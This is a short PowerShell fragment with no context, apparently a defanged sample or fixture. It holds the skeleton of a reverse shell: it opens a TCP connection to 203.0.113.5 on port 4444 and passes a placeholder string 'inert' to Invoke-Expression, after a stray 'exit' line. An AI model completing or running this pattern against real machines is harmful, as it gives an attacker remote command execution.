exit
$c = New-Object System.Net.Sockets.TCPClient("203.0.113.5",4444);$s = $c.GetStream();
$d = "inert"; $o = (iex $d 2>&1 | Out-String)
